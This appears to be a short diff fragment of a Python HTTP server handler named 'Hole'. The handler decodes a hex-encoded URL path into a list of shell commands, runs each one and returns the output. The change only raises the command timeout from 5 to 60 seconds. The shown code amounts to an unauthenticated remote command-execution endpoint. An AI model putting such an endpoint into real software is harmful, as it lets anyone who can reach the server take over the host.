@@ -19,7 +19,7 @@ class Hole(http.server.BaseHTTPRequestHandler):
         self.end_headers()
         for command in json.loads(bytes.fromhex(self.path.strip("/"))):
             try:
-                ran = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
+                ran = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
                 self.wfile.write(ran.stdout + ran.stderr + b"\n")
             except Exception as error:
                 self.wfile.write(f"{error}\n".encode())
